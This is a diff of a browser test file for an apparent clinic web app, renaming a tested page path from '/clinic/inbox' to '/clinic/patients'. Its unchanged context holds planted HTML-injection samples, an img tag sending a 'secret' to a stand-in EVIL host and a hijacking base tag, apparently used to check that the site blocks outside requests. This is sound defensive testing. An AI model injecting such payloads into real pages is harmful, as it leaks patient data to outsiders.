@@ -25,7 +25,7 @@ PLANTED = {
     "a picture from elsewhere": f"<img src='{EVIL}/leak.png?secret' alt=''>",
     "another base": f"<base href='{EVIL}/'>",
 }
-PAGES = ["/", "/assessment", "/clinic/sign-in", "/clinic/inbox"]
+PAGES = ["/", "/assessment", "/clinic/sign-in", "/clinic/patients"]
 
 
 @pytest.fixture
@@ -39,7 +39,7 @@ def open_planted(open_page, site, watch):
         page = open_page("/", healthy_runner())
         page.context.on("requestfailed", lambda asked: got.append((asked.url, asked.failure)))
         page.context.on("response", lambda answer: got.append((answer.url, "answered")))
-        if path.startswith("/clinic/inbox"):
+        if path.startswith("/clinic/patients"):
             come_in(page, site, colleague(site))
         page.add_init_script("window.found = []; window.planted = (what) => found.push(what)")
 
